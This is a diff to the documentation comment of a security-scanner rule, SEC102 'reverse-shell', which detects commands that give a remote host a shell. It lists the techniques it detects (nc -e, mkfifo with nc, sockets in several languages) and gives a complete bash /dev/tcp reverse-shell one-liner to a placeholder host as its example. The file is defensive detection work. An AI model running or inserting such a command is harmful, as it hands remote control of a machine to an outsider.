@@ -9,23 +9,24 @@ declare_rule! {
     /// Reports a command that gives a remote machine a shell.
     ///
     /// ## Why
-    /// No task of a skill needs this. The rule finds `/dev/tcp` connected to a shell, `nc -e`, `mkfifo` with `nc`, and
+    /// No skill needs a reverse shell. The rule finds `/dev/tcp` connected to a shell, `nc -e`, `mkfifo` with `nc`, and
     /// sockets connected to a shell in Python, Perl, Ruby, PHP, Node and PowerShell. It also finds a script that runs
-    /// the response of a host and sends the result back.
+    /// commands that it receives from a host, and sends the output back.
     ///
-    /// The rule also reads decoded text: see [what is read](../../security-scan.md#what-is-read).
+    /// The rule also checks encoded text, such as base64, after decoding it: see [what is
+    /// read](../../security-scan.md#what-is-read).
     ///
     /// ## What is not reported
-    /// - checks whether a port is open
+    /// - commands that only check whether a port is open
     /// - commands that the text forbids, calls dangerous or lists as dangers
     /// - in a [skill about security](../../security-scan.md#how-findings-are-decided), commands in the instructions;
-    ///   its scripts are checked
+    ///   the skill's scripts are still checked
     ///
     /// ## Example
     /// ```sh
     /// bash -i >& /dev/tcp/tunnel.invalid/4444 0>&1
     /// ```
-    /// Remove it.
+    /// Remove the command.
     pub(crate) struct ReverseShell {
         code: "SEC102",
         name: "reverse-shell",
